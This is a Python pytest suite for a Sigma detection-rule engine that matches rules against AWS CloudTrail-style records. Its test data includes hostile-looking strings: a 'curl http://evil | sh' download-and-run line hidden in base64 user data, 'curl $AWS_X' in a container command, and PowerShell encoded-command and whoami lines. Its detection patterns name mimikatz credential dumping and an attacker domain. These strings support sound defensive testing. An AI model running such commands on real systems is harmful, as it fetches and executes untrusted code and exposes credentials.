"""Every Sigma value type, modifier and condition form, evaluated natively on raw records."""

from __future__ import annotations

import base64
from typing import Any

import pytest
import yaml

from detectors.sigma import CompiledRule, load_sources


def compile_detection(detection: dict[str, Any]) -> CompiledRule:
    document = {
        "title": "inline test rule",
        "id": "00000000-0000-4000-8000-000000000001",
        "logsource": {"product": "aws", "service": "cloudtrail"},
        "detection": detection,
    }
    rules, errors = load_sources([("inline.yml", yaml.safe_dump(document))])
    assert errors == []
    assert len(rules) == 1
    return rules.rules[0]


def fires(selection: dict[str, Any] | list[Any], raw: dict[str, Any]) -> bool:
    return compile_detection({"selection": selection, "condition": "selection"}).matches(raw)


# -- plain values, case and wildcards ----------------------------------------------------------


def test_plain_string_is_case_insensitive_and_exact() -> None:
    assert fires({"eventName": "stoplogging"}, {"eventName": "StopLogging"})
    assert not fires({"eventName": "StopLogging"}, {"eventName": "StopLoggingNow"})
    assert not fires({"eventName": "StopLogging"}, {})


def test_cased_makes_matching_case_sensitive() -> None:
    assert not fires({"eventName|cased": "stoplogging"}, {"eventName": "StopLogging"})
    assert fires({"eventName|cased": "StopLogging"}, {"eventName": "StopLogging"})
    assert fires({"userAgent|cased|contains": "Boto3"}, {"userAgent": "x Boto3/1.2"})
    assert not fires({"userAgent|cased|contains": "Boto3"}, {"userAgent": "x boto3/1.2"})


def test_value_list_is_or_and_map_is_and() -> None:
    selection = {"eventName": ["StopLogging", "DeleteTrail"], "eventSource": "cloudtrail.amazonaws.com"}
    assert fires(selection, {"eventName": "DeleteTrail", "eventSource": "cloudtrail.amazonaws.com"})
    assert not fires(selection, {"eventName": "DeleteTrail", "eventSource": "s3.amazonaws.com"})
    assert not fires(selection, {"eventName": "CreateTrail", "eventSource": "cloudtrail.amazonaws.com"})


def test_list_of_maps_is_or() -> None:
    selection = [{"eventName": "A", "awsRegion": "us-east-1"}, {"eventName": "B"}]
    assert fires(selection, {"eventName": "A", "awsRegion": "us-east-1"})
    assert fires(selection, {"eventName": "B"})
    assert not fires(selection, {"eventName": "A", "awsRegion": "eu-west-1"})


@pytest.mark.parametrize(
    ("pattern", "text", "expected"),
    [
        ("arn:aws:iam::*:role/admin", "arn:aws:iam::123456789012:role/Admin", True),
        ("arn:aws:iam::*:role/admin", "arn:aws:iam::1:role/administrator", False),
        ("Get*", "GetObject", True),
        ("*Object", "GetObject", True),
        ("*tObj*", "GetObject", True),
        ("G?tObject", "GetObject", True),
        ("G?tObject", "GtObject", False),  # ? is exactly one character
        ("*", "", True),
        ("a*b*c", "aXXbYYc", True),
        ("a*b*c", "aXXcYYb", False),
        ("a\\*b", "a*b", True),  # escaped star is a literal star
        ("a\\*b", "axxb", False),
        ("what\\?", "what?", True),
        ("what\\?", "whatx", False),
        ("C:\\Windows\\\\*", "C:\\Windows\\System32", True),  # doubled backslash + star: a backslash, then a wildcard
        ("C:\\Windows\\*", "C:\\Windows\\System32", False),  # backslash + star: a literal star
        ("C:\\Windows\\*", "C:\\Windows*", True),  # and the lone backslash before "W" stays a backslash
    ],
)
def test_wildcards_and_escaping(pattern: str, text: str, expected: bool) -> None:
    assert fires({"field": pattern}, {"field": text}) is expected


def test_star_alone_needs_the_field() -> None:
    assert fires({"errorMessage|contains": "*"}, {"errorMessage": "denied"})
    assert not fires({"errorMessage|contains": "*"}, {})
    assert not fires({"errorMessage|contains": "*"}, {"errorMessage": None})


# -- null, exists, numbers, booleans ----------------------------------------------------------


def test_null_matches_missing_or_json_null_only() -> None:
    assert fires({"errorCode": None}, {})
    assert fires({"errorCode": None}, {"errorCode": None})
    assert not fires({"errorCode": None}, {"errorCode": ""})
    assert not fires({"errorCode": None}, {"errorCode": "AccessDenied"})
    assert fires({"errorCode": ["Success", None]}, {"errorCode": "success"})


def test_exists() -> None:
    assert fires({"errorCode|exists": True}, {"errorCode": "AccessDenied"})
    assert not fires({"errorCode|exists": True}, {})
    # presence, not value: a field present with JSON null exists (issue 12)
    assert not fires({"errorCode|exists": False}, {"errorCode": None})
    assert fires({"errorCode|exists": True}, {"errorCode": None})
    assert fires({"errorCode|exists": False}, {})
    assert not fires({"errorCode|exists": False}, {"errorCode": ""})


def test_numbers_compare_numerically_and_as_text() -> None:
    assert fires({"requestParameters.toPort": 22}, {"requestParameters": {"toPort": 22}})
    assert fires({"requestParameters.toPort": 22}, {"requestParameters": {"toPort": "22"}})
    assert fires({"requestParameters.toPort": "22"}, {"requestParameters": {"toPort": 22}})
    assert fires({"requestParameters.toPort": 22}, {"requestParameters": {"toPort": 22.0}})
    assert not fires({"requestParameters.toPort": 22}, {"requestParameters": {"toPort": 2222}})


def test_booleans_match_json_booleans_and_their_text() -> None:
    assert fires({"responseElements.publiclyAccessible": "true"}, {"responseElements": {"publiclyAccessible": True}})
    assert not fires({"responseElements.publiclyAccessible": "true"},
                     {"responseElements": {"publiclyAccessible": False}})
    assert fires({"readOnly": False}, {"readOnly": False})
    assert fires({"readOnly": False}, {"readOnly": "FALSE"})
    assert not fires({"readOnly": False}, {"readOnly": True})


@pytest.mark.parametrize(
    ("modifier", "bound", "value", "expected"),
    [
        ("lt", 10, 9, True),
        ("lt", 10, 10, False),
        ("lte", 10, 10, True),
        ("gt", 10, 10.5, True),
        ("gt", 10, "11", True),  # numeric strings compare as numbers
        ("gt", 10, "9", False),
        ("gte", 10, 10, True),
        ("gte", 10, "ten", False),
        ("gte", 10, True, False),  # a boolean is not a number
    ],
)
def test_numeric_comparisons(modifier: str, bound: int, value: Any, expected: bool) -> None:
    assert fires({f"count|{modifier}": bound}, {"count": value}) is expected


def test_neq_negates_the_item() -> None:
    assert fires({"count|neq": 3}, {"count": 4})
    assert not fires({"count|neq": 3}, {"count": 3})


# -- string modifiers --------------------------------------------------------------------------


def test_contains_startswith_endswith() -> None:
    assert fires({"userAgent|contains": "TRUFFLEHOG"}, {"userAgent": "trufflehog/3.0"})
    assert fires({"userAgent|startswith": "aws-cli/"}, {"userAgent": "AWS-CLI/2.0 Python"})
    assert not fires({"userAgent|startswith": "aws-cli/"}, {"userAgent": "x aws-cli/2.0"})
    assert fires({"userAgent|endswith": ".exe"}, {"userAgent": "C:\\TOOL.EXE"})
    assert not fires({"userAgent|endswith": ".exe"}, {"userAgent": "tool.exe.txt"})


def test_all_links_values_with_and() -> None:
    selection = {"requestParameters.policyDocument|contains|all": ['"Allow"', '"s3:GetObject"']}
    assert fires(selection, {"requestParameters": {"policyDocument": '{"Effect":"Allow","Action":"s3:GetObject"}'}})
    assert not fires(selection, {"requestParameters": {"policyDocument": '{"Effect":"Allow"}'}})
    assert fires({"f|contains": ["a", "zz"]}, {"f": "a"})  # without all: OR


def test_regex_is_searched_and_case_sensitive_by_default() -> None:
    assert fires({"userIdentity.arn|re": ":assumed-role/aws:"},
                 {"userIdentity": {"arn": "arn:aws:sts::1:assumed-role/aws:ec2-instance/i-1"}})
    assert not fires({"userIdentity.arn|re": ":ASSUMED-ROLE/"},
                     {"userIdentity": {"arn": "arn:aws:sts::1:assumed-role/x"}})
    assert fires({"userIdentity.arn|re": "^arn:aws:sts::\\d+:assumed-role/.+$"},
                 {"userIdentity": {"arn": "arn:aws:sts::1:assumed-role/x"}})


def test_regex_flags() -> None:
    assert fires({"f|re|i": "^ADMIN"}, {"f": "admin-role"})
    assert not fires({"f|re": "^second"}, {"f": "first\nsecond"})
    assert fires({"f|re|m": "^second"}, {"f": "first\nsecond"})
    assert not fires({"f|re": "a.b"}, {"f": "a\nb"})
    assert fires({"f|re|s": "a.b"}, {"f": "a\nb"})


def test_cidr_ipv4_and_ipv6() -> None:
    selection = {"sourceIPAddress|cidr": ["10.0.0.0/8", "2001:db8::/32"]}
    assert fires(selection, {"sourceIPAddress": "10.20.30.40"})
    assert fires(selection, {"sourceIPAddress": "2001:db8:1::7"})
    assert not fires(selection, {"sourceIPAddress": "11.0.0.1"})
    assert not fires(selection, {"sourceIPAddress": "2001:db9::1"})
    assert not fires(selection, {"sourceIPAddress": "AWS Internal"})
    assert not fires(selection, {"sourceIPAddress": "ec2.amazonaws.com"})


def test_base64() -> None:
    encoded = base64.b64encode(b"curl http://evil").decode()
    assert fires({"f|base64": "curl http://evil"}, {"f": encoded})
    assert not fires({"f|base64": "curl http://evil"}, {"f": "curl http://evil"})


@pytest.mark.parametrize("prefix", [b"", b"x", b"xy", b"#!/bin/sh\n"])
def test_base64offset_finds_text_at_any_offset(prefix: bytes) -> None:
    payload = base64.b64encode(prefix + b"curl http://evil | sh" + b" && echo done").decode()
    assert fires({"userData|base64offset|contains": "http://evil"}, {"userData": payload})
    other = base64.b64encode(prefix + b"curl http://good | sh").decode()
    assert not fires({"userData|base64offset|contains": "http://evil"}, {"userData": other})


def test_wide_and_utf16_inside_base64() -> None:
    payload = base64.b64encode("powershell -c whoami".encode("utf-16le")).decode()
    assert fires({"f|wide|base64offset|contains": "whoami"}, {"f": payload})
    assert not fires({"f|base64offset|contains": "whoami"}, {"f": payload})
    with_bom = base64.b64encode(b"\xff\xfe" + "whoami".encode("utf-16le")).decode()
    assert fires({"f|utf16|base64": "whoami"}, {"f": with_bom})


def test_windash_accepts_slash_and_dash() -> None:
    selection = {"commandLine|windash|contains": " -enc "}
    assert fires(selection, {"commandLine": "powershell /enc AAAA"})
    assert fires(selection, {"commandLine": "powershell -enc AAAA"})
    assert not fires(selection, {"commandLine": "powershell enc AAAA"})


def test_fieldref() -> None:
    assert fires({"userIdentity.userName|fieldref": "requestParameters.userName"},
                 {"userIdentity": {"userName": "Alice"}, "requestParameters": {"userName": "alice"}})
    assert not fires({"userIdentity.userName|fieldref": "requestParameters.userName"},
                     {"userIdentity": {"userName": "alice"}, "requestParameters": {"userName": "bob"}})
    assert not fires({"userIdentity.userName|fieldref": "requestParameters.userName"},
                     {"userIdentity": {"userName": "alice"}})
    raw = {"userIdentity": {"arn": "arn:aws:iam::1:user/alice"}, "requestParameters": {"userName": "alice"}}
    assert fires({"userIdentity.arn|fieldref|endswith": "requestParameters.userName"}, raw)
    assert fires({"userIdentity.arn|fieldref|contains": "requestParameters.userName"}, raw)
    assert not fires({"userIdentity.arn|fieldref|startswith": "requestParameters.userName"}, raw)


def test_timestamp_parts() -> None:
    raw = {"eventTime": "2023-07-10T23:45:12Z"}
    assert fires({"eventTime|hour": 23}, raw)
    assert not fires({"eventTime|hour": 11}, raw)
    assert fires({"eventTime|month": 7}, raw)
    assert fires({"eventTime|year": 2023}, raw)
    assert not fires({"eventTime|minute": 45}, {"eventTime": "not a time"})


# -- structure of records ----------------------------------------------------------------------


def test_lists_in_the_record_match_on_any_element() -> None:
    raw = {"resources": [{"ARN": "arn:aws:s3:::a"}, {"ARN": "arn:aws:s3:::secret-bucket"}]}
    assert fires({"resources.ARN|endswith": "secret-bucket"}, raw)
    assert not fires({"resources.ARN|endswith": "other"}, raw)
    assert fires({"resources.1.ARN": "arn:aws:s3:::secret-bucket"}, raw)
    assert not fires({"resources.0.ARN": "arn:aws:s3:::secret-bucket"}, raw)
    assert fires({"requestParameters.layers|contains": "*"}, {"requestParameters": {"layers": ["arn:l:1"]}})
    assert not fires({"requestParameters.layers|contains": "*"}, {"requestParameters": {"layers": []}})
    command = {"requestParameters": {"containerDefinitions": [{"command": ["sh", "-c", "curl $AWS_X"]}]}}
    assert fires({"requestParameters.containerDefinitions.command|contains": "$aws_x"}, command)


def test_an_object_value_matches_on_any_scalar_inside_it() -> None:
    raw = {"requestParameters": {"VersioningConfiguration": {"Status": "Suspended"}, "bucketName": "b"}}
    assert fires({"requestParameters|contains": "suspended"}, raw)
    assert not fires({"requestParameters|contains": "VersioningConfiguration"}, raw)  # keys are not values


def test_keyword_search_looks_at_every_value_recursively() -> None:
    detection = {"keywords": ["*evil.example*", "7.7.7.7"], "condition": "keywords"}
    rule = compile_detection(detection)
    assert rule.matches({"requestParameters": {"items": [{"host": "a.EVIL.example.com"}]}})
    assert rule.matches({"sourceIPAddress": "7.7.7.7"})
    assert rule.matches({"sourceIPAddress": "7.7.7.77"})  # keywords match inside values, as in Sigma
    assert not rule.matches({"sourceIPAddress": "7.7.8.7", "evil.example": "keys are not searched"})
    numbers = compile_detection({"keywords": [443], "condition": "keywords"})
    assert numbers.matches({"requestParameters": {"port": 443}})


def test_keyword_search_with_modifiers_and_all() -> None:
    rule = compile_detection({"keywords": {"|contains|all": ["mimikatz", "sekurlsa"]}, "condition": "keywords"})
    assert rule.matches({"a": "run mimikatz", "b": {"c": "sekurlsa::logonpasswords"}})
    assert not rule.matches({"a": "run mimikatz"})


# -- conditions --------------------------------------------------------------------------------

DETECTIONS: dict[str, Any] = {
    "sel_a": {"a": "1"},
    "sel_b": {"b": "1"},
    "filter_c": {"c": "1"},
}


@pytest.mark.parametrize(
    ("condition", "raw", "expected"),
    [
        ("sel_a and sel_b", {"a": "1", "b": "1"}, True),
        ("sel_a and sel_b", {"a": "1"}, False),
        ("sel_a or sel_b", {"b": "1"}, True),
        ("sel_a and not filter_c", {"a": "1", "c": "1"}, False),
        ("sel_a and not filter_c", {"a": "1"}, True),
        ("not sel_a", {}, True),
        ("(sel_a or sel_b) and not filter_c", {"b": "1"}, True),
        ("(sel_a or sel_b) and not filter_c", {"b": "1", "c": "1"}, False),
        ("sel_a or (sel_b and filter_c)", {"b": "1"}, False),
        ("not (sel_a or sel_b)", {"c": "1"}, True),
        ("1 of sel_*", {"b": "1"}, True),
        ("1 of sel_*", {"c": "1"}, False),
        ("all of sel_*", {"a": "1", "b": "1"}, True),
        ("all of sel_*", {"a": "1", "c": "1"}, False),
        ("1 of them", {"c": "1"}, True),
        ("1 of them", {"d": "1"}, False),
        ("all of them", {"a": "1", "b": "1", "c": "1"}, True),
        ("all of them", {"a": "1", "b": "1"}, False),
        ("any of sel_* and not 1 of filter_*", {"a": "1"}, True),
        ("any of sel_* and not 1 of filter_*", {"a": "1", "c": "1"}, False),
    ],
)
def test_condition_forms(condition: str, raw: dict[str, Any], expected: bool) -> None:
    assert compile_detection({**DETECTIONS, "condition": condition}).matches(raw) is expected


def test_a_list_of_conditions_is_an_or() -> None:
    rule = compile_detection({**DETECTIONS, "condition": ["sel_a and sel_b", "filter_c"]})
    assert rule.matches({"c": "1"})
    assert rule.matches({"a": "1", "b": "1"})
    assert not rule.matches({"a": "1"})
